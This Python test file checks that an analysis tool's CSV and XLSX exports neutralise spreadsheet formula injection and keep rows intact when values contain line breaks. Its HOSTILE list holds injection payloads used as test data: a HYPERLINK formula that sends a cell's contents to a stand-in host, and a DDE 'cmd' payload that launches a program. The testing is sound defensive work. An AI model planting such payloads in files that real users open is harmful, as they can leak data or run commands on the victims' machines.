"""Files written for analysts: formula-leading text is quoted (OWASP), every value with a
delimiter, quote or line break (a bare carriage return too) is quoted, and each file reads back
with the rows written."""

from __future__ import annotations

import csv
import io
import subprocess
import sys

import openpyxl
import pandas as pd
from conftest import row

from analysis.config import PROJECT_ROOT
from analysis.log.export import csv_text, write_csv, write_xlsx

VALIDATE = [sys.executable, "-m", "analysis", "validate"]
HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "line one\rline two",  # a bare CR: written unquoted, it splits the row in Excel and pandas
    "line one\nline two",
    "line one\r\nline two",
    'a "quoted", comma; semicolon',
    "plain text",
    "Ünïcødé ✓ 🙂",
    "",
]


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_hostile_text_is_neutralised_and_every_row_reads_back():
    frame = pd.DataFrame({"text": HOSTILE, "n": range(len(HOSTILE))})
    text = csv_text(frame)
    rows = _read(text)
    assert rows[0] == ["text", "n"]
    assert len(rows) == len(HOSTILE) + 1  # no value broke its row
    expected = ["'" + v if v[:1] in {"=", "+", "-", "@", "\t", "\r"} else v for v in HOSTILE]
    assert [r[0] for r in rows[1:]] == expected
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(HOSTILE))]
    # pandas reads the same rows back
    back = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)["text"].tolist()
    assert back == expected


def test_numbers_dates_and_empty_cells_are_left_alone(tmp_path):
    frame = pd.DataFrame(
        {
            "n": [-5, 3],
            "x": [-0.5, None],
            "when": pd.to_datetime(["2021-11-05 10:00", None]),
        }
    )
    path = write_csv(frame, tmp_path / "t.csv", date_format="%Y-%m-%d %H:%M")
    assert path.read_bytes() == b"n,x,when\r\n-5,-0.5,2021-11-05 10:00\r\n3,,\r\n"


def test_xlsx_cells_are_text_never_formulas(tmp_path):
    frame = pd.DataFrame({"text": [*HOSTILE, "bell\x07char"]})
    write_xlsx(frame, tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    cells = [c for c in sheet.iter_rows(min_row=2, values_only=True)]
    assert all(sheet.cell(r, 1).data_type != "f" for r in range(1, sheet.max_row + 1))
    got = [c[0] for c in cells]
    assert got[0] == "'" + HOSTILE[0] and got[3] == "'@SUM(A1:A9)"
    # XML reads CR as LF: line breaks are written as LF, and read back as written
    assert got[5] == "'\n=1+1" and got[6] == got[7] == got[8] == "line one\nline two"
    assert got[-2] is None  # '' is an empty cell
    assert got[-1] == "bell\ufffdchar"  # XML cannot hold the control character


def test_validate_outputs_are_formula_safe_and_keep_their_rows(log_file, tmp_path):
    """*.valid.csv and *.rejected.csv from a log whose text fields hold formulas and line breaks."""
    path = log_file(
        [
            row(organisation="=1+1", description="said\rthat"),
            row(complaint_id="C2", organisation="@evil", platform="+Twiter\r\n2"),
        ]
    )
    out = tmp_path / "out"
    run = subprocess.run(
        [*VALIDATE, str(path), "--as-of", "2022-03-31", "--out-dir", str(out), "--allow-rejected"],
        capture_output=True,
        text=True,
        cwd=PROJECT_ROOT,
    )
    assert run.returncode == 0, run.stderr
    valid = _read((out / "log.valid.csv").read_bytes().decode("utf-8"))
    assert len(valid) == 2
    header = valid[0]
    assert valid[1][header.index("organisation")] == "'=1+1"
    assert valid[1][header.index("description")] == "said\rthat"
    rejected = _read((out / "log.rejected.csv").read_bytes().decode("utf-8"))
    assert len(rejected) == 2  # one problem: the platform
    line = dict(zip(rejected[0], rejected[1], strict=True))
    assert line["source_row"] == "3" and line["column"] == "platform"
    assert line["raw: platform"] == "'+Twiter\r\n2"
    assert line["raw: organisation"] == "'@evil"
